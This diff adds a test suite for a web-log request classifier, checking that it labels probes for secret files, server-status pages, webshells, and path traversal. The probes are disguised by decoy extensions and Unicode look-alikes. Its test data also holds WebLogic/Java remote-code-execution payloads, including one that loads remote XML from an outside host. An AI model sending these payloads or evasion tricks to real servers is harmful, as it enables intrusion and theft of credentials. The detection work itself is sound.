@@ -1,0 +1,267 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import fc from 'fast-check';
+import { BUILTIN_RULES } from '../../../lambdas/core/rules/builtin.js';
+import { Classifier, MAX_DECOY_EXTENSIONS, MAX_NAME_PARTS, SCRIPT_EXTENSIONS, foldLookalikes, resolvePath } from '../../../lambdas/core/rules/engine.js';
+import type { Rule } from '../../../lambdas/core/rules/types.js';
+import { record } from '../../support/records.js';
+
+const classifier = new Classifier(BUILTIN_RULES);
+
+function labels(request: string, status = 404, ip?: string): string[] {
+  return classifier
+    .classify(record({ request, status, ...(ip ? { ip } : {}) }))
+    .labels.map((l) => `${l.category}/${l.rule.id}`)
+    .sort();
+}
+
+const probeLabels = (request: string, status = 404) => labels(request, status).filter((l) => !l.startsWith('static-asset/'));
+
+describe('a probe target followed by a decoy asset segment (PATH_INFO, handler locations)', () => {
+  const cases: [string, string][] = [
+    ['/server-status/x.css', 'sensitive-file/server-status'],
+    ['/server-info/a/b.js', 'sensitive-file/server-status'],
+    ['/nginx_status/x.png', 'sensitive-file/server-status'],
+    ['/phpinfo.php/x.png', 'php-probe/php-info'],
+    ['/phpinfo.php/x.css', 'php-probe/php-info'],
+    ['/info.php/a/b/c.js', 'php-probe/php-info'],
+    ['/wp-content/plugins/x/shell.php/x.css', 'webshell/webshell'],
+    ['/wp-config.php/x.css', 'sensitive-file/secret-file'],
+    ['/.git/config/x.js', 'sensitive-file/secret-directory'],
+  ];
+  for (const [target, want] of cases) {
+    it(`${target} is labelled ${want}, not excused as an asset`, () => {
+      const got = labels(`GET ${target} HTTP/1.1`);
+      assert.ok(got.includes(want), `${target}: ${got.join(', ') || 'nothing'}`);
+      assert.ok(!got.includes('static-asset/static-asset'), `${target}: ${got.join(', ')}`);
+    });
+  }
+
+  it('a served page under a handler location is labelled too (mod_status answers any path below it)', () => {
+    assert.ok(labels('GET /server-status/x.css HTTP/1.1', 200).includes('sensitive-file/server-status'));
+  });
+
+  it('mod_status scraped from the host itself stays unlabelled as the plain page is', () => {
+    assert.deepEqual(
+      classifier.classify(record({ ip: '127.0.0.1', request: 'GET /server-status/x.css?auto HTTP/1.1', status: 200 })).labels.map((l) => l.rule.id),
+      [],
+    );
+  });
+
+  it('real assets and PATH_INFO routes stay benign or unlabelled', () => {
+    for (const t of [
+      '/static/css/site.css',
+      '/assets/app.js',
+      '/favicon.ico',
+      '/images//logo.png',
+      '/status/badge.svg',
+      '/server/status.css',
+      '/css/server-status.css',
+    ]) {
+      assert.deepEqual(labels(`GET ${t} HTTP/1.1`), ['static-asset/static-asset'], t);
+      assert.deepEqual(labels(`GET ${t} HTTP/1.1`, 200), [], t);
+    }
+    // Front controllers with PATH_INFO routes (CodeIgniter, Magento, Kirby) are ordinary pages.
+    for (const t of ['/index.php/products/42', '/index.php/api/v1/items?page=2', '/app.php/login', '/cgi-bin/awstats.pl/x']) {
+      assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`, 200), [], t);
+    }
+    // Image proxies put a host name in the path: a Polish or Dominican domain is no Perl or Struts script.
+    for (const t of ['/proxy/www.example.pl/logo.png', '/img/shop.example.do/banner.jpg', '/r/forum.example.pl/thread/42']) {
+      assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`), [], t);
+    }
+    // Theme assets of a WordPress site are labelled as before (a miss there is a CMS probe), no more.
+    assert.deepEqual(labels('GET /wp-content/themes/x/style.css HTTP/1.1', 200), []);
+  });
+
+  it('names only the scripts a server runs with a path after them', () => {
+    for (const ext of ['php', 'asp', 'aspx', 'jsp', 'cgi', 'pl']) assert.ok(SCRIPT_EXTENSIONS.has(ext), ext);
+    for (const ext of ['css', 'js', 'html', 'png', 'json', 'txt']) assert.ok(!SCRIPT_EXTENSIONS.has(ext), ext);
+  });
+});
+
+describe('Unicode look-alikes of `.` and `/`', () => {
+  it('folds full-width and other look-alikes into the resolved path', () => {
+    const cases: [string, string][] = [
+      ['/．env', '/.env'],
+      ['/\uff0egit\uff0fconfig', '/.git/config'],
+      ['/\u2024env', '/.env'],
+      ['/a\uff0f\uff0e\uff0e\uff0f.env', '/.env'],
+      ['/\uff0e\uff45\uff4e\uff56', '/.env'],
+      ['/x\u2215..\u2215.env', '/.env'],
+      ['/x\uff3c..\uff3c.env', '/.env'],
+    ];
+    for (const [input, want] of cases) assert.equal(resolvePath(input), want, input);
+  });
+
+  const hidden: [string, string][] = [
+    ['/．env', 'sensitive-file/secret-file'],
+    ['/%EF%BC%8Eenv', 'sensitive-file/secret-file'],
+    ['/%ef%bc%8eenv', 'sensitive-file/secret-file'],
+    ['/%25EF%25BC%258Eenv', 'sensitive-file/secret-file'],
+    ['/\u2024env', 'sensitive-file/secret-file'],
+    ['/%E2%80%A4env', 'sensitive-file/secret-file'],
+    ['/．git／config', 'sensitive-file/secret-directory'],
+    ['/%EF%BC%8Egit%EF%BC%8Fconfig', 'sensitive-file/secret-directory'],
+    ['/static/..／..／..／etc/passwd', 'path-traversal/traversal-target-file'],
+    ['/static/%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc/passwd', 'path-traversal/traversal-target-file'],
+  ];
+  for (const [target, want] of hidden) {
+    it(`${target} is labelled ${want}`, () => {
+      const got = labels(`GET ${target} HTTP/1.1`);
+      assert.ok(got.includes(want), `${target}: ${got.join(', ') || 'nothing'}`);
+    });
+  }
+
+  it('real non-ASCII paths stay unlabelled', () => {
+    for (const t of ['/wiki/Straße', '/café/menu', '/blog/wait…', '/%E6%97%A5%E6%9C%AC/%E6%9D%B1%E4%BA%AC', '/products/caf%C3%A9-noir', '/ﬁles/report']) {
+      assert.deepEqual(labels(`GET ${t} HTTP/1.1`, 200), [], t);
+    }
+    for (const t of ['/images/café.png', '/fonts/日本.woff2', '/img/ｌｏｇｏ.png']) {
+      assert.deepEqual(labels(`GET ${t} HTTP/1.1`), ['static-asset/static-asset'], t);
+    }
+  });
+
+  it('leaves ASCII as it is, is idempotent, and never yields a look-alike', () => {
+    const unit = fc.constantFrom(...'ab./\\', '\uff0e', '\uff0f', '\uff3c', '\u2024', '\u2025', '\u2215', '\ufe52', 'é', '日', 'ﬁ', 'Ａ', 'ℌ');
+    fc.assert(
+      fc.property(fc.string({ unit, maxLength: 12 }), (s) => {
+        const f = foldLookalikes(s);
+        assert.equal(foldLookalikes(f), f);
+        for (const bad of ['\uff0e', '\uff0f', '\uff3c', '\u2024', '\u2215', '\ufe52']) assert.ok(!f.includes(bad), f);
+        const r = resolvePath(`/${s}`);
+        assert.equal(resolvePath(r), r);
+      }),
+      { numRuns: 2000 },
+    );
+    fc.assert(fc.property(fc.string({ unit: fc.constantFrom(...'abz09./-_;%'), maxLength: 20 }), (s) => assert.equal(foldLookalikes(s), s)));
+  });
+
+  it('never turns a missing asset into a probe', () => {
+    // Letters that spell no probe word (`cgi`, `db`, `admin`…), and non-ASCII letters and look-alikes of letters.
+    const word = fc.string({ unit: fc.constantFrom(...'aefhjqvxyz-_', 'é', 'ü', '日', 'ｌ', 'ｏ', 'ﬁ', '…'), minLength: 1, maxLength: 8 });
+    const ext = fc.constantFrom('css', 'js', 'png', 'woff2', 'svg', 'ico');
+    fc.assert(
+      fc.property(fc.array(word, { minLength: 1, maxLength: 4 }), word, ext, (dirs, name, e) => {
+        const path = `/${dirs.join('/')}/${name}.${e}`;
+        const encoded = path
+          .split('/')
+          .map((s) => encodeURIComponent(s))
+          .join('/');
+        for (const t of [path, encoded]) assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`), [], t);
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
+
+describe('decoy extensions after a secret name', () => {
+  it('finds a secret name behind any number of decoy extensions', () => {
+    for (const t of [
+      '/.env.bak.old.txt.css',
+      '/.env.a.b.c.d',
+      '/.env.1.2.3.4.5.6.7.8.9.js',
+      '/.my.cnf.a.b.c.d.e',
+      '/wp-config.php.1.2.3.4.css',
+      '/.git-credentials.a.b.c.d.e.f.g.h',
+    ]) {
+      for (const status of [200, 404]) assert.ok(labels(`GET ${t} HTTP/1.1`, status).includes('sensitive-file/secret-file'), `${t} ${status}`);
+    }
+    for (const t of ['/site.tar.gz.a.b.c.d', '/db.sql.1.2.3.4.5.6']) {
+      assert.ok(labels(`GET ${t} HTTP/1.1`).includes('sensitive-file/backup-file'), t);
+    }
+  });
+
+  it('every built-in file name fits the parts tested from the start of a name', () => {
+    for (const rule of BUILTIN_RULES) {
+      const f = rule.match.file;
+      // A suffix (`.tar.gz`) needs a stem before it (`site.tar.gz`).
+      const names = [...(f?.equals ?? []), ...(f?.suffix ?? []).map((x) => `stem${x}`)];
+      for (const name of names) {
+        const parts = name.replace(/^\./, '').split('.').length;
+        assert.ok(parts <= MAX_NAME_PARTS, `${rule.id}: ${name} has ${parts} parts`);
+      }
+    }
+  });
+
+  it(`tests at most ${MAX_NAME_PARTS} leading and ${MAX_DECOY_EXTENSIONS} trailing cuts, and counts names with more parts`, () => {
+    const rule: Rule = {
+      id: 'four-part-name',
+      category: 'test',
+      class: 'probing',
+      severity: 'low',
+      score: 1,
+      explain: 'a name longer than the leading cuts',
+      match: { file: { equals: ['a.b.c.d'] } },
+    };
+    const c = new Classifier([rule]);
+    const hit = (name: string) => c.classify(record({ request: `GET /${name} HTTP/1.1`, status: 404 })).labels.length > 0;
+    const total = MAX_NAME_PARTS + MAX_DECOY_EXTENSIONS + 1;
+    // A name of `total` parts or fewer has every prefix tested.
+    assert.ok(hit(`a.b.c.d.${'x.'.repeat(total - 5)}x`));
+    assert.equal(c.limits.decoyExtensionsCut, 0);
+    // One part more leaves a prefix in the middle untested, and that is counted.
+    assert.ok(!hit(`a.b.c.d.${'x.'.repeat(total - 4)}x`));
+    assert.equal(c.limits.decoyExtensionsCut, 1);
+  });
+
+  it('ordinary dotted asset names stay benign', () => {
+    for (const t of ['/js/jquery.ui.1.12.1.min.js', '/css/bootstrap.4.6.2.min.css', '/img/a.b.c.d.e.f.png', '/dist/app.3f9a1c.chunk.min.js.map']) {
+      assert.deepEqual(labels(`GET ${t} HTTP/1.1`), ['static-asset/static-asset'], t);
+    }
+  });
+});
+
+describe('Java code-execution payloads are rce-probe whatever the path rewrite', () => {
+  const payloads = [
+    '?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)',
+    '?_nfpb=true&handle=com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext(%22http://198.51.100.1/x.xml%22)',
+    '?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22weblogic.work.ExecuteThread%20t%22)',
+    '?handle=com.bea.core.repackaged.springframework.context.support.ClassPathXmlApplicationContext(%22http://x/p.xml%22)',
+    '?x=T(java.lang.Runtime).getRuntime().exec(%22id%22)',
+  ];
+  const paths = [
+    '/console/css/%252e%252e%252fconsole.portal',
+    '/console/images/%252E%252E%252Fconsole.portal',
+    '/CONSOLE/IMAGES/%252E%252E%252FCONSOLE.PORTAL',
+    '/console/css;x/%252e%252e%252fconsole.portal',
+    '/console/css/%252e%252e%252fconsole.portal;jsessionid=1',
+    '/console/..;/console.portal',
+    '/console/css/..%252fconsole.portal',
+  ];
+  for (const path of paths) {
+    it(`${path} with a payload is rce-probe and product-exploit`, () => {
+      for (const q of payloads) {
+        const got = labels(`GET ${path}${q} HTTP/1.1`);
+        // One label per category: the exact-URL rule may be the one shown.
+        assert.ok(
+          got.some((l) => l.startsWith('rce-probe/')),
+          `${path}${q}: ${got.join(', ')}`,
+        );
+        assert.ok(classifier.requestRuleIds(record({ request: `GET ${path}${q} HTTP/1.1`, status: 404 })).includes('java-rce-payload'), `${path}${q}`);
+      }
+      const tangosol = labels(`GET ${path}${payloads[0]} HTTP/1.1`);
+      assert.ok(tangosol.includes('product-exploit/exploited-weblogic'), `${path}: ${tangosol.join(', ')}`);
+    });
+  }
+
+  it('the payload in a POST query is labelled too', () => {
+    assert.ok(labels(`POST /console/images/%252e%252e%252fconsole.portal${payloads[1]} HTTP/1.1`).includes('rce-probe/java-rce-payload'));
+  });
+
+  it('a search for the class names is no payload', () => {
+    for (const t of [
+      '/search?q=java.lang.Runtime',
+      '/search?q=java.lang.Runtime+exec+example',
+      '/docs/api/java/lang/Runtime.html',
+      '/docs/java.lang.Runtime.getRuntime',
+      '/search?q=spring+xml+application+context',
+      '/console/console.portal',
+    ]) {
+      assert.deepEqual(
+        labels(`GET ${t} HTTP/1.1`, 200).filter((l) => l.startsWith('rce-probe/')),
+        [],
+        t,
+      );
+    }
+  });
+});
